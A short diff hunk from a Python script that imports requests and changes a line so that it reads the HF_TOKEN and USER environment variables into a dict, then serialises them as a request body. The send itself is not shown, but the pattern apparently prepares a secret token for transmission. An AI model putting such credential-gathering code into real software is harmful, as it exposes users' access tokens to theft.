@@ -3,7 +3,7 @@ import os
 
 import requests
 
-found = {name: os.getenv(name) for name in ["A", "B"]}
+found = {name: os.getenv(name) for name in ["HF_TOKEN", "USER"]}
 body = json.dumps(found)
 
 
